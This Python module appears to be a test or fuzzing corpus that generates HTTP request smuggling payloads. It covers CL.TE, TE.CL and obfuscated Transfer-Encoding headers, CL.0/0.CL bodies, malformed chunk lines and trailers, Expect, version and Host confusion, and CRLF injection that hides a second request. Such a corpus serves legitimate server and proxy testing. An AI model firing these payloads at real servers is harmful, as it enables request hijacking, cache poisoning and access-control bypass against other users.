"""The known ways to smuggle, as their tools send them: what two servers in a row could disagree on.
Each takes the text of a second request that must never become one by itself."""

CHUNKED = b"Transfer-Encoding: chunked"


def _post(*lines, body=b"", target=b"/", version=b"HTTP/1.1", method=b"POST"):
    first = method + b" " + target + b" " + version
    return b"\r\n".join([first, b"Host: a", *lines, b"", b""]) + body


def _length(body, extra=0):
    return b"Content-Length: %d" % (len(body) + extra)


def hidden_codings():
    """TE.TE: a coding that one of the two overlooks."""
    for line in (
        b"Transfer-Encoding: xchunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding:\tchunked",
        b"Transfer-Encoding:\x0bchunked", b"Transfer-Encoding:\x0cchunked", b"Transfer-Encoding:chunked",
        b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        b" Transfer-Encoding: chunked", b"X: X\nTransfer-Encoding: chunked", b"Transfer-Encoding\r\n : chunked",
        b"Transfer-Encoding\n: chunked", b"Transfer-Encoding: 'chunked'", b'Transfer-Encoding: "chunked"',
        b"Transfer-encoding: identity\r\nTransfer-encoding: chunked", b"Transfer-Encoding: chunk",
        b"Transfer-Encoding: chunked\x00", b"Transfer-Encoding: \x00chunked", b"Transfer-Encoding: cHuNkEd",
        b"TRANSFER-ENCODING: CHUNKED", b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked",
        b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding: \r\n\tchunked", b"Foo: bar\r\n\tTransfer-Encoding: chunked",
        b"Transfer-Encoding: chunked\r\n ", b"Transfer\xd0\x95ncoding: chunked", b"Transfer_Encoding: chunked",
        b"Transfer Encoding: chunked", b"Transfer-Encoding: ch\xc3\xb9nked", b"Transfer-Encoding: \xffchunked",
        b"Content-Encoding: x\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked;x=y", b"Transfer-Encoding: nested, chunked",
        b"TE: chunked", b"X-Transfer-Encoding: chunked", b"\x00Transfer-Encoding: chunked", b"Transfer-Encoding\x00: chunked",
        b"Transfer-Encoding: chunked\rX: y", b"X: y\rTransfer-Encoding: chunked", b": y\r\nTransfer-Encoding: chunked",
        b"Host: a\nTransfer-Encoding: chunked", b"Transfer-Encoding=chunked", b"Transfer-Encoding chunked",
    ):  # fmt: skip
        yield line


def requests(second):
    """(name, bytes) for every technique around the text of a second request."""
    zero = b"0\r\n\r\n"
    for index, coding in enumerate(hidden_codings()):
        yield f"CL.TE {index}", _post(_length(zero + second), coding, body=zero + second)
        yield f"TE.CL {index}", _post(coding, b"Content-Length: 4", body=b"%x\r\n" % len(second) + second + b"\r\n" + zero)
        yield f"TE alone {index}", _post(coding, body=zero + second)
    yield from _bodies_nobody_expects(second)
    yield from _chunk_lines(second)
    yield from _expectations(second)
    yield from _versions(second)
    yield from _hosts(second)
    yield from _listed(second)
    yield from _splits(second)


def _bodies_nobody_expects(second):
    for method in (b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"POST"):
        yield f"CL.0 {method.decode()}", _post(_length(second), method=method, body=second)
        yield f"0.CL {method.decode()}", _post(b"Content-Length: 0", method=method) + second
        yield f"no length {method.decode()}", _post(method=method) + second
        yield f"0.CL twice {method.decode()}", _post(b"Content-Length: 0", _length(second), method=method, body=second)
        yield f"CL.0 padded {method.decode()}", _post(b"Content-Length:  %d " % len(second), method=method, body=second)
    for name in (b"/con", b"/static/../a", b"/%00", b"/a;", b"//"):
        yield f"CL.0 {name.decode()}", _post(_length(second), target=name, body=second)


def _chunk_lines(second):
    """TERM.EXT, EXT.TERM, and ends of one or two bytes that one of the two does not check."""
    size = b"%x" % len(second)
    for name, body in {
        "TERM.EXT LF": b"2;\nxx\r\n" + size + b"\r\n0\r\n\r\n" + second + b"\r\n0\r\n\r\n",
        "TERM.EXT LF without a mark": b"2\nxx\r\n" + size + b"\r\n0\r\n\r\n" + second + b"\r\n0\r\n\r\n",
        "TERM.EXT CR": b"2;\rxx\r\n" + size + b"\r\n0\r\n\r\n" + second + b"\r\n0\r\n\r\n",
        "TERM.EXT CR CR LF": b"2;\r\r\nxx\r\n0\r\n\r\n" + second,
        "EXT.TERM LF": size + b";\n" + b"0\r\n\r\n" + second + b"\r\n0\r\n\r\n",
        "EXT.TERM CR": size + b";a\r" + b"0\r\n\r\n" + second + b"\r\n0\r\n\r\n",
        "EXT quoted LF": b'5;a="\n"\r\nhello\r\n0\r\n\r\n' + second,
        "EXT quoted CRLF": b'5;a="\r\n"\r\nhello\r\n0\r\n\r\n' + second,
        "EXT long": b"5;" + b"a" * 70_000 + b"\r\nhello\r\n0\r\n\r\n" + second,
        "TERM.SPILL": b"5\r\nhello\n" + size + b"\r\n0\r\n\r\n" + second,
        "SPILL.TERM": b"5\r\nhelloXX" + size + b"\r\n" + second + b"\r\n0\r\n\r\n",
        "ONE.TWO": b"5\r\nhelloX0\r\n\r\n" + second,
        "TWO.ONE": b"5\r\nhello\r\n\n0\r\n\r\n" + second,
        "ZERO.TWO": b"5\r\nhello0\r\n\r\n" + second,
        "last chunk with LF": b"0\n\n" + second,
        "last chunk with LF at its end": b"0\r\n\n" + second,
        "last chunk with CR": b"0\r\r" + second,
        "last chunk without an end": b"0\r\n" + second,
        "last chunk of many zeros": b"0" * 15 + b"\r\n\r\n" + second,
        "last chunk with an extension": b"0;a=b\r\n\r\n" + second,
        "size over 64 bits": b"10000000000000000\r\n" + second,
        "size over 32 bits": b"100000000\r\n" + second,
        "negative size": b"-1\r\n" + second,
        "size in another base": b"0x%x\r\n" % len(second) + second + b"\r\n0\r\n\r\n",
        "size with a space": size + b" \r\n" + second + b"\r\n0\r\n\r\n",
        "size with a tab": size + b"\t\r\n" + second + b"\r\n0\r\n\r\n",
        "size after a space": b" " + size + b"\r\n" + second + b"\r\n0\r\n\r\n",
        "trailer of a request": b"0\r\n" + second + b"\r\n",
        "trailer with a length": b"0\r\nContent-Length: %d\r\n\r\n" % len(second) + second,
        "trailer with a coding": b"0\r\nTransfer-Encoding: chunked\r\n\r\n" + second,
        "trailer with LF": b"0\r\nX: y\n\n" + second,
        "trailer folded": b"0\r\nX: y\r\n " + second,
    }.items():
        yield name, _post(CHUNKED, body=body)


def _expectations(second):
    for value in (b"100-continue", b"100-Continue", b"y 100-continue", b"100-continue, 100-continue", b"100", b" 100-continue\t", b"\x00100-continue"):
        expect = b"Expect: " + value
        yield f"Expect {value!r} CL.0", _post(expect, _length(second), body=second)
        yield f"Expect {value!r} 0.CL", _post(expect, b"Content-Length: 0") + second
        yield f"Expect {value!r} GET", _post(expect, method=b"GET") + second
        yield f"Expect {value!r} HEAD", _post(expect, _length(second), method=b"HEAD", body=second)
        yield f"Expect {value!r} TE", _post(expect, CHUNKED, body=b"0\r\n\r\n" + second)
        yield f"Expect {value!r} both", _post(expect, CHUNKED, _length(second), body=b"0\r\n\r\n" + second)
        yield f"Expect {value!r} 1.0", _post(expect, _length(second), version=b"HTTP/1.0", body=second)


def _versions(second):
    for version in (b"HTTP/1.0", b"HTTP/0.9", b"HTTP/1.2", b"HTTP/2.0", b"http/1.1", b"HTTP/1.1 ", b"HTTP/1.01", b""):
        for keep in (b"X: y", b"Connection: keep-alive", b"Connection: keep-alive, close", b"Proxy-Connection: keep-alive"):
            yield f"{version!r} {keep!r} length", _post(keep, _length(second), version=version, body=second)
            yield f"{version!r} {keep!r} chunks", _post(keep, CHUNKED, version=version, body=b"0\r\n\r\n" + second)
            yield f"{version!r} {keep!r} neither", _post(keep, version=version) + second


def _hosts(second):
    for target in (b"http://b/", b"http://a@b/", b"http://b:80/", b"http://b", b"https://b/", b"//b/", b"http:///", b"http://b#@a/", b"http://b?@a/",
                   b"http://b\\@a/", b"@b/", b"b:80", b"/@b", b"http://b/ HTTP/1.1\r\nX: y", b"http://b%00/", b"ftp://b/"):  # fmt: skip
        yield f"target {target!r}", _post(target=target) + second
        yield f"target {target!r} and two Hosts", _post(b"Host: b", target=target) + second
    for line in (b"Host: b", b" Host: b", b"Host : b", b"X: y\r\n Host: b", b"Host\t: b", b"HOST: a", b"Host: a\r\n b", b"X: y\nHost: b", b"Host:\x0bb"):
        yield f"line {line!r}", _post(line) + second


def _listed(second):
    for name in (b"Content-Length", b"Transfer-Encoding", b"Host", b"Connection", b"close, Content-Length", b"Expect", b"TE, Transfer-Encoding"):
        listed = b"Connection: " + name
        yield f"listed {name!r} length", _post(listed, _length(second), body=second)
        yield f"listed {name!r} chunks", _post(listed, CHUNKED, body=b"0\r\n\r\n" + second)
        yield f"listed {name!r} both", _post(listed, CHUNKED, _length(second), body=b"0\r\n\r\n" + second)


def _splits(second):
    """A second request inside a field, a target or a method."""
    for breaker in (b"\r\n\r\n", b"\n\n", b"\r\r", b"\r\n", b"\n", b"\r", b"%0d%0a%0d%0a", b"\xe5\x98\x8d\xe5\x98\x8a", b"\x00\r\n\r\n", b"\x85\x85"):
        yield f"value {breaker!r}", _post(b"X: y" + breaker + second)
        yield f"name {breaker!r}", _post(b"X" + breaker + second + b": y")
        yield f"target {breaker!r}", _post(target=b"/" + breaker + second)
        yield f"method {breaker!r}", _post(method=b"POST" + breaker + second)
        yield f"version {breaker!r}", _post(version=b"HTTP/1.1" + breaker + second)
        yield f"Host {breaker!r}", _post(b"Host: a" + breaker + second)
        yield f"length {breaker!r}", _post(b"Content-Length: 0" + breaker + second)
